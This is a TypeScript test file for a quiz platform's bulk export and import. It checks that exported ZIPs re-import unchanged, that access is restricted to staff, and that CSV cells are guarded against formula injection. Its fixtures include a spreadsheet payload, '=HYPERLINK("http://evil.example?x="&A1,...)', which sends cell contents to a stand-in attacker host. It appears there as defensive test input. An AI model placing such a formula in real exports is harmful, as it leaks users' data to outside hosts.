/** Exports, which are ZIPs that can be imported: complete, unchanged, and without formulas. */
import { randomBytes } from 'node:crypto';
import { buffer } from 'node:stream/consumers';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { Readable } from 'node:stream';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { BulkKind } from '../../../src/contract/bulk.ts';
import { inTransaction } from '../../../server/db/client.ts';
import { exporterOf } from '../../../server/modules/bulk/export.service.ts';
import { addQuestions } from '../../../server/modules/questions/questions.store.ts';
import { addNormalQuestions } from '../../../server/modules/test-series/normal-questions.store.ts';
import { guardCell, unguardCell } from '../../../server/zip/guarded-cells.ts';
import { openZip } from '../../../server/zip/safe-zip.ts';
import { limits } from '../../../src/contract/limits.ts';
import { bulkCalls } from './bulk-calls.ts';
import { formOf, startTestServer, type TestServer, type TestUser } from '../../support/server.ts';
import { makeBank, makeCourse } from '../../support/study.ts';
import { testCalls } from '../../support/test-calls.ts';

let server: TestServer;
let admin: TestUser;
let courseId: number;
let folder: string;
beforeAll(async () => {
  folder = await mkdtemp(path.join(tmpdir(), 'nightfloat-exports-'));
  server = await startTestServer();
  admin = await server.user({ role: 'admin' });
  courseId = await makeCourse(server);
});
afterAll(async () => {
  await server.stop();
  await rm(folder, { recursive: true });
});
const { normal } = testCalls(() => server);
const { bring, makeTest, sendTo } = bulkCalls(
  () => server,
  () => admin,
);

const texts = [
  '=HYPERLINK("http://evil.example?x="&A1,"Look")',
  '+1 + 1',
  '-30° to +90°',
  '@SUM(A1:A9)',
  "'=1",
  "''@x",
  "'quoted'",
  'a = b',
  '=a,"b"\n=c',
];
const rows = texts.map((text, at) => ({
  text,
  options: ['=1+1', '-2 mV', '+2 mV', `@${at}`] as const,
  correctOption: (at % 4) + 1,
  explanation: '- First\n- Second',
  image: null,
}));

const targets = {
  async bank() {
    const { categoryId } = await makeBank(server, { size: 0 });
    return {
      id: categoryId,
      fill: () => inTransaction(server.db, (tx) => addQuestions(tx, categoryId, rows)),
      upload: '/api/bulk-upload-questions-with-images/',
      field: 'category_id',
      list: `/api/categories/${categoryId}/questions/`,
    };
  },
  async test() {
    const { testId } = (await normal({ size: 0 })).test;
    return {
      id: testId,
      fill: () => inTransaction(server.db, (tx) => addNormalQuestions(tx, testId, rows, server.deps.now())),
      upload: '/api/testseries/questions/bulk-upload/',
      field: 'test_series_id',
      list: `/api/normal-question/list/${testId}/`,
    };
  },
};

describe('an export', () => {
  it.each(['bank', 'test'] as const)(
    'of a %s contains no formula and can be imported back unchanged',
    async (kind) => {
      const [from, to] = [await targets[kind](), await targets[kind]()];
      await from.fill();
      const { body } = await server.call('GET', `/api/bulk-exports/${kind}/${from.id}/`, { as: admin });
      const { rawPayload: zip } = await server.app.inject({ url: body.url });
      const cells = parse(await sheetOf(zip), { bom: true }).flat();
      expect(cells).toHaveLength(8 * (rows.length + 1));
      expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);

      const form = formOf({ [to.field]: String(to.id), file: { bytes: zip, name: 'q.zip' } });
      expect(await server.call('POST', to.upload, { as: admin, form })).toMatchObject({ status: 201 });
      const contentAt = async (list: string) =>
        (await server.call('GET', list, { as: admin })).body.map((row: object) => ({
          ...row,
          id: 0,
          test_series: 0,
          category: 0,
        }));
      const there = await contentAt(to.list);
      expect(there).toEqual(await contentAt(from.list));
      expect(there.map(({ text }: { text: string }) => text)).toEqual(texts);
    },
  );

  it.each(['bank', 'test', 'ecg'] as const)(
    'of a %s is a ZIP that can be imported back unchanged',
    async (kind) => {
      const from =
        kind === 'bank'
          ? (await makeBank(server, { courseId, size: 0 })).categoryId
          : await makeTest(courseId, kind === 'ecg');
      const to =
        kind === 'bank'
          ? (await makeBank(server, { courseId, size: 0 })).categoryId
          : await makeTest(courseId, kind === 'ecg');
      await bring(kind, from);
      const { body } = await server.call('GET', `/api/bulk-exports/${kind}/${from}/`, { as: admin });
      const sent = await server.app.inject({ url: body.url });
      expect(sent.headers).toMatchObject({
        'content-type': 'application/zip',
        'content-disposition': expect.stringContaining('.zip"'),
        'cache-control': 'private, no-store',
      });
      expect((await sendTo(kind, to, sent.rawPayload)).status).toBe(201);
      expect(await content(kind, to)).toEqual(await content(kind, from));
      const again = await server.call('GET', `/api/bulk-exports/${kind}/${to}/`, { as: admin });
      expect(again.body.rows).toBe(body.rows);
    },
  );

  it('stores the same lossless pictures when imported on another server', async () => {
    const elsewhere = await startTestServer();
    try {
      const from = await makeTest(courseId, true);
      await bring('ecg', from);
      const { body } = await server.call('GET', `/api/bulk-exports/ecg/${from}/`, { as: admin });
      const sent = await server.app.inject({ url: body.url });
      const other = await elsewhere.user({ role: 'admin' });
      const calls = bulkCalls(
        () => elsewhere,
        () => other,
      );
      const to = await calls.makeTest(await makeCourse(elsewhere), true);
      const form = formOf({ test_series_id: String(to), file: { bytes: sent.rawPayload, name: 'e.zip' } });
      expect(
        (await elsewhere.call('POST', '/api/ecg-question/bulk-upload/', { as: other, form })).status,
      ).toBe(201);
      const there = await elsewhere.call('GET', `/api/ecg-question/list/${to}/`, { as: other });
      const here = await server.call('GET', `/api/ecg-question/list/${from}/`, { as: admin });
      expect(there.body[0].image).toBe(here.body[0].image);
    } finally {
      await elsewhere.stop();
    }
  });

  it('is for staff only, even with a ticket', async () => {
    const { categoryId } = await makeBank(server, { courseId, size: 1 });
    const student = await server.user();
    expect((await server.call('GET', `/api/bulk-exports/bank/${categoryId}/`, { as: student })).status).toBe(
      403,
    );
    expect((await server.call('GET', `/api/media/bank-export/${categoryId}`, { as: student })).status).toBe(
      403,
    );
    const { body } = await server.call('GET', `/api/bulk-exports/bank/${categoryId}/`, { as: admin });
    expect((await server.app.inject({ url: body.url.replace('ticket=', 'ticket=x') })).statusCode).toBe(403);
    expect(
      (await server.app.inject({ url: body.url.replace('bank-export', 'test-export') })).statusCode,
    ).toBe(403);
  });

  it('arrives complete, however large it is and however slowly it is read', async () => {
    const { categoryId } = await makeBank(server, { courseId, size: 0 });
    const images = await Promise.all(
      Array.from({ length: 20 }, () => server.deps.files.put({ bytes: randomBytes(200_000) }, 'webp')),
    );
    const options = ['A', 'B', 'C', 'D'] as const;
    const many = images.map((image, at) => ({
      text: `${at}`,
      options,
      correctOption: 1,
      explanation: '',
      image,
    }));
    await inTransaction(server.deps.db, (tx) => addQuestions(tx, categoryId, many));
    const made = await exporterOf('bank')(server.deps, admin, categoryId);
    const file = path.join(folder, 'slow.zip');
    await writeFile(file, slowly('stream' in made ? made.stream : Readable.from([])));
    const zip = await openZip(file, limits.zip);
    expect(zip.files).toHaveLength(21);
    for (const one of zip.files) for await (const _ of zip.read(one)) continue;
    zip.close();
  });

  it('returns 404 when there is nothing to export', async () => {
    const { categoryId } = await makeBank(server, { courseId, size: 0 });
    const reply = await server.call('GET', `/api/bulk-exports/bank/${categoryId}/`, { as: admin });
    expect(reply).toMatchObject({ status: 404, body: { error: 'There is nothing to export yet.' } });
  });

  async function sheetOf(zip: Buffer): Promise<string> {
    const file = path.join(folder, 'export.zip');
    await writeFile(file, zip);
    const opened = await openZip(file, limits.zip);
    const sheet = opened.files.find((one) => one.path.endsWith('.csv'))!;
    const text = (await buffer(Readable.from(opened.read(sheet)))).toString();
    opened.close();
    return text;
  }
});

it.each([...texts, '', "'", "'a", '\tx', '=', "'''-"])(
  'guarding and unguarding a cell returns the original: %j',
  (text) => {
    expect(unguardCell(guardCell(text))).toBe(text);
    expect(guardCell(text)).not.toMatch(/^[=+\-@\t\r]/);
  },
);

/** Returns the content of a bank or test without ids. */
async function content(kind: BulkKind, id: number) {
  const list = {
    bank: `categories/${id}/questions`,
    test: `normal-question/list/${id}`,
    ecg: `ecg-question/list/${id}`,
  };
  const { body } = await server.call('GET', `/api/${list[kind]}/`, { as: admin });
  return (body as Record<string, unknown>[]).map(
    ({ id: _id, category: _c, test_series: _t, ...rest }) => rest,
  );
}

/** Reads so slowly that the stream's producer ends long before its reader. */
async function* slowly(stream: Readable) {
  for await (const chunk of stream) {
    for (let turn = 0; turn < 20; turn += 1) await new Promise((resolve) => setImmediate(resolve));
    yield chunk as Buffer;
  }
}
